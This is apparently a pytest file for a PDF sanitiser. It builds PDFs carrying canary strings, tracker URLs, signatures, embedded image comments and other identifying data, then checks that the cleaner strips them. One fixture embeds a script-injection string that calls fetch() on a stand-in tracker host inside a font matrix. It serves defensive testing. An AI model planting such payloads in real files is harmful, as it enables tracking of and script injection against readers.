"""What a PDF tells of people and machines, and what leads out of it, by way of files made here: none of it is kept."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from portal.adapters.readers.documents import clean_document
from portal.adapters.readers.pdf_cleaner import clean_pdf
from portal.domain.documents import Cleaned, DocumentRefused, Refusal

CANARY = "canary-of-the-person"
ADDRESS = "https://tracker.example/" + CANARY


def make_pdf(change: Callable[[Pdf], None]) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Contents = pdf.make_stream(b"q Q")
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(), Font=Dictionary(), Pattern=Dictionary())
    change(pdf)
    stream = io.BytesIO()
    pdf.save(stream)
    return stream.getvalue()


def unpack(content: bytes) -> bytes:
    """The whole file in the open, so that a search of its bytes finds everything."""
    plain = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(
            plain,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    return plain.getvalue()


def add_form(pdf: Pdf, drawing: bytes = b"q Q", **entries: object) -> pikepdf.Object:
    form = pdf.make_stream(
        drawing, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Resources=Dictionary(), **entries
    )
    pdf.pages[0].Resources.XObject.Fm0 = form
    return form


def add_note(pdf: Pdf, **entries: object) -> pikepdf.Object:
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9]))
    for name, value in entries.items():
        note[f"/{name}"] = value
    pdf.pages[0].Annots = Array([note])
    return note


def refer_to_another_file(pdf: Pdf) -> None:
    spec = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(ADDRESS))
    add_form(pdf, Ref=Dictionary(F=spec, Page=0, ID=[String(CANARY), String(CANARY)]))


def replace_by_opi(pdf: Pdf) -> None:
    path = String(f"C:/Users/{CANARY}/photo.tif")
    add_form(pdf, OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, Version=2, F=path)}))


def put_a_program_into_a_font(pdf: Pdf) -> None:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    font.FontMatrix = Array([1, 2, 3, 4, 5, String(f"0); fetch('{ADDRESS}'")])
    pdf.pages[0].Resources.Font.F0 = pdf.make_indirect(font)


def put_a_program_into_a_drawing(pdf: Pdf) -> None:
    add_form(pdf).Matrix = Array([1, 0, 0, 1, 0, Array([String(CANARY)])])


def write_a_note(pdf: Pdf) -> None:
    add_note(pdf, T=String(CANARY), Contents=String("What about this?"), M=String("D:20260101"), NM=String(CANARY))


def write_a_note_with_a_rich_text(pdf: Pdf) -> None:
    add_note(pdf, Contents=String("Words"), RC=String(f"<body><a href='{ADDRESS}'>x</a></body>"), Subj=String(CANARY))


def make_signature(pdf: Pdf) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/adbe.pkcs7.detached"),
            ByteRange=[0, 1, 2, 3],
            Contents=String(CANARY),
            Cert=String(CANARY),
            Name=String(CANARY),
            Location=String(CANARY),
            ContactInfo=String(CANARY),
            Reason=String(CANARY),
        )
    )


def sign(pdf: Pdf) -> None:
    seed = Dictionary(Type=Name.SV, Cert=Dictionary(URL=String(ADDRESS), Subject=[String(CANARY)]))
    field = add_note(pdf, Subtype=Name.Widget, FT=Name.Sig, T=String("s"), V=make_signature(pdf), SV=seed, Lock=seed)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def certify(pdf: Pdf) -> None:
    pdf.Root.Perms = Dictionary(DocMDP=make_signature(pdf))


def keep_certificates(pdf: Pdf) -> None:
    pdf.Root.DSS = Dictionary(Certs=Array([pdf.make_stream(CANARY.encode())]), VRI=Dictionary())


def sign_without_saying_so(pdf: Pdf) -> None:
    signature = make_signature(pdf)
    del signature["/Type"]
    pdf.pages[0].Resources["/Kept"] = Array([signature])


def name_the_maker_of_a_layer(pdf: Pdf) -> None:
    usage = Dictionary(CreatorInfo=Dictionary(Creator=String(CANARY)), User=Dictionary(Name=String(CANARY)))
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Layer"), Usage=usage))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(Order=Array([layer])))


def say_where_a_map_is(pdf: Pdf) -> None:
    place = Dictionary(Type=Name.Measure, Subtype=Name.GEO, GCS=Dictionary(WKT=String(CANARY)))
    pdf.pages[0].VP = Array([Dictionary(Type=Name.Viewport, BBox=[0, 0, 9, 9], Measure=place, Name=String(CANARY))])


def write_an_article(pdf: Pdf) -> None:
    thread = pdf.make_indirect(Dictionary(Type=Name.Thread, I=Dictionary(Author=String(CANARY))))
    bead = pdf.make_indirect(Dictionary(Type=Name.Bead, T=thread, P=pdf.pages[0].obj, R=[0, 0, 9, 9]))
    thread.F, bead.N, bead.V = bead, bead, bead
    pdf.Root.Threads, pdf.pages[0].B = Array([thread]), Array([bead])


def keep_what_was_copied_from_the_web(pdf: Pdf) -> None:
    found = Dictionary(Type=Name.SpiderContentSet, S=Name.SPS, SI=Dictionary(AU=String(ADDRESS)))
    pdf.Root.Names = Dictionary(IDS=Dictionary(Names=Array([String("a"), pdf.make_indirect(found)])))


def make_up_properties(pdf: Pdf) -> None:
    owner = Dictionary(O=Name.UserProperties, P=Array([Dictionary(N=String("author"), V=String(CANARY))]))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, A=owner))


def keep_a_profile_elsewhere(pdf: Pdf) -> None:
    spec = Dictionary(FS=Name.URL, F=String(ADDRESS))
    intent = Dictionary(Type=Name.OutputIntent, S=Name.GTS_PDFX, RegistryName=String(ADDRESS))
    intent.DestOutputProfileRef = Dictionary(URLs=Array([spec]))
    pdf.Root.OutputIntents = Array([intent])


def name_a_file(pdf: Pdf) -> None:
    pdf.pages[0].Resources["/Kept"] = Dictionary(UF=String(CANARY), F=String(CANARY))


def keep_something_that_nobody_lists(pdf: Pdf) -> None:
    pdf.Root["/Acme"] = Dictionary(Owner=String(CANARY))


def keep_it_on_the_page(pdf: Pdf) -> None:
    pdf.pages[0]["/Acme"] = Dictionary(Owner=String(CANARY))


def keep_it_in_the_trailer(pdf: Pdf) -> None:
    pdf.trailer["/Acme"] = Dictionary(Owner=String(CANARY))


def count_with_a_field(pdf: Pdf) -> None:
    field = add_note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("sum"), V=String("12"), RV=String(CANARY))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


CHANGES = {
    refer_to_another_file: Cleaned.FILES_INSIDE,
    replace_by_opi: Cleaned.FILES_INSIDE,
    put_a_program_into_a_font: Cleaned.SCRIPTS,
    put_a_program_into_a_drawing: Cleaned.SCRIPTS,
    write_a_note: Cleaned.METADATA,
    write_a_note_with_a_rich_text: Cleaned.METADATA,
    sign: Cleaned.SIGNATURES,
    certify: Cleaned.SIGNATURES,
    keep_certificates: Cleaned.SIGNATURES,
    sign_without_saying_so: Cleaned.SIGNATURES,
    name_the_maker_of_a_layer: Cleaned.METADATA,
    say_where_a_map_is: Cleaned.METADATA,
    write_an_article: Cleaned.METADATA,
    keep_what_was_copied_from_the_web: Cleaned.METADATA,
    make_up_properties: Cleaned.METADATA,
    keep_a_profile_elsewhere: Cleaned.FILES_INSIDE,
    name_a_file: Cleaned.METADATA,
    keep_something_that_nobody_lists: Cleaned.METADATA,
    keep_it_on_the_page: Cleaned.METADATA,
    keep_it_in_the_trailer: Cleaned.METADATA,
    count_with_a_field: Cleaned.FORMS,
}


@pytest.mark.parametrize(("change", "cleaned"), CHANGES.items(), ids=[each.__name__ for each in CHANGES])
def test_a_pdf_keeps_no_address_no_name_and_no_certificate(change: Callable[[Pdf], None], cleaned: Cleaned) -> None:
    given = make_pdf(change)
    assert CANARY.encode() in unpack(given) or change is count_with_a_field
    clean = clean_document(given)
    assert cleaned in clean.cleaned
    for sign_of in (CANARY.encode(), b"tracker.example", b"ByteRange"):
        assert sign_of not in unpack(clean.content)
    assert clean_pdf(clean.content).cleaned == (), "once is enough"


def test_the_words_of_a_note_and_of_a_field_stay() -> None:
    def change(pdf: Pdf) -> None:
        note = add_note(pdf, Contents=String("What about this?"), T=String(CANARY), Open=True)
        field = pdf.make_indirect(
            Dictionary(Subtype=Name.Widget, Rect=[0, 0, 9, 9], FT=Name.Tx, T=String("town"), V=String("Leeds"))
        )
        pdf.pages[0].Annots = Array([note, field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/F0 9 Tf"))

    with pikepdf.open(io.BytesIO(clean_pdf(make_pdf(change)).content)) as pdf:
        note, field = pdf.pages[0].Annots
        assert str(note.Contents) == "What about this?"
        assert (str(field.T), str(field.V)) == ("town", "Leeds")
        assert len(pdf.Root.AcroForm.Fields) == 1


def test_what_a_page_shows_stays() -> None:
    def change(pdf: Pdf) -> None:
        add_form(pdf, Matrix=[1, 0, 0, 1, 0.5, 0])
        pdf.pages[0].CropBox, pdf.pages[0].Rotate = Array([1, 1, 50, 50]), 90
        pdf.Root.Lang, pdf.Root.PageLabels = String("en"), Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("One", 0))

    clean = clean_pdf(make_pdf(change))
    assert clean.cleaned == ()
    with pikepdf.open(io.BytesIO(clean.content)) as pdf:
        assert pdf.pages[0].Rotate == 90
        assert pdf.pages[0].CropBox == Array([1, 1, 50, 50])
        assert pdf.pages[0].Resources.XObject.Fm0.Matrix[4] == pytest.approx(0.5)
        assert {"/Lang", "/PageLabels", "/Outlines"} <= pdf.Root.keys()


def test_the_mark_of_the_first_file_does_not_go_on() -> None:
    mark = b"0123456789abcdef"

    def change(pdf: Pdf) -> None:
        pdf.trailer.ID = Array([String(mark.decode()), String(mark.decode())])

    given = make_pdf(change)
    assert mark.hex().encode() in unpack(given)
    assert mark.hex().encode() not in unpack(clean_pdf(given).content)


def make_drawing() -> bytes:
    """A photo in the middle of drawing commands, with what its camera wrote."""
    photo = io.BytesIO()
    Image.radial_gradient("L").resize((16, 16)).save(photo, "JPEG", comment=CANARY)
    head = b"q 16 0 0 16 0 0 cm BI /W 16 /H 16 /CS /G /BPC 8 /F /DCT ID "
    return head + photo.getvalue() + b" EI Q\n"


def draw_on_the_page(pdf: Pdf) -> None:
    pdf.pages[0].Contents = Array([pdf.make_stream(b"q\n"), pdf.make_stream(make_drawing()), pdf.make_stream(b"Q\n")])


def draw_in_a_form(pdf: Pdf) -> None:
    add_form(pdf, make_drawing())


def draw_in_a_form_of_a_form(pdf: Pdf) -> None:
    inner = add_form(pdf, make_drawing())
    add_form(pdf, b"/Fm1 Do").Resources = Dictionary(XObject=Dictionary(Fm1=inner))


def draw_a_note(pdf: Pdf) -> None:
    looks = pdf.make_stream(
        make_drawing(), Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Resources=Dictionary()
    )
    add_note(pdf, Subtype=Name.Stamp, AP=Dictionary(N=looks))


def draw_a_pattern(pdf: Pdf) -> None:
    pdf.pages[0].Resources.Pattern.P0 = pdf.make_stream(
        make_drawing(), PatternType=1, PaintType=1, TilingType=1, BBox=[0, 0, 9, 9], XStep=9, YStep=9,
        Resources=Dictionary(),
    )  # fmt: skip


@pytest.mark.parametrize(
    "change", [draw_on_the_page, draw_in_a_form, draw_in_a_form_of_a_form, draw_a_note, draw_a_pattern]
)
def test_a_photo_in_the_middle_of_drawing_commands_loses_what_it_tells(change: Callable[[Pdf], None]) -> None:
    given = make_pdf(change)
    assert CANARY.encode() in unpack(given)
    clean = clean_pdf(given)
    assert Cleaned.METADATA in clean.cleaned
    assert CANARY.encode() not in unpack(clean.content)
    with pikepdf.open(io.BytesIO(clean.content)) as pdf:
        streams = [each for each in pdf.objects if isinstance(each, pikepdf.Stream)]
        assert [each.Width for each in streams if each.get("/Subtype") == Name.Image] == [16], "it is still there"
        drawn = [*(each for each in streams if "/Resources" in each), *(page.obj for page in pdf.pages)]
        assert any("/IIm1" in each.Resources.get("/XObject", {}) for each in drawn), "and drawn by its name"


def draw_a_letter(pdf: Pdf) -> None:
    letter = pdf.make_stream(b"9 0 d0 " + make_drawing())
    font = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 9, 9], FontMatrix=[1, 0, 0, 1, 0, 0])
    font.CharProcs = Dictionary(a=letter)
    pdf.pages[0].Resources.Font.F0 = pdf.make_indirect(font)


def draw_without_resources(pdf: Pdf) -> None:
    del add_form(pdf, make_drawing())["/Resources"]


@pytest.mark.parametrize("change", [draw_a_letter, draw_without_resources])
def test_a_photo_where_it_cannot_be_taken_out_is_refused(change: Callable[[Pdf], None]) -> None:
    with pytest.raises(DocumentRefused) as caught:
        clean_pdf(make_pdf(change))
    assert caught.value.reason is Refusal.TOO_COMPLEX


def test_a_letter_that_is_drawn_point_by_point_stays() -> None:
    """Fonts of old printing programs are made of such small pictures, which hold points and nothing else."""

    def change(pdf: Pdf) -> None:
        letter = pdf.make_stream(b"9 0 d0 BI /W 8 /H 1 /IM true /BPC 1 ID \xaa EI")
        font = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 9, 9], FontMatrix=[1, 0, 0, 1, 0, 0])
        font.CharProcs = Dictionary(a=letter)
        pdf.pages[0].Resources.Font.F0 = pdf.make_indirect(font)

    clean = clean_pdf(make_pdf(change))
    assert clean.cleaned == ()
    assert b"BI /W 8" in unpack(clean.content)
